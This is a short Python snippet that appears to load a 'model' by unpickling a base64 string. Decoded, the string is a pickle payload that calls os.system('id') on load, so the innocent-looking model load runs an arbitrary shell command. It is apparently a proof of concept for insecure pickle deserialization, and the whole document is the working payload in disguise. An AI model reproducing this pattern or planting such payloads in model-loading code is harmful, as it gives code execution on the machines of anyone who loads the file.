import base64
import pickle

model = pickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))
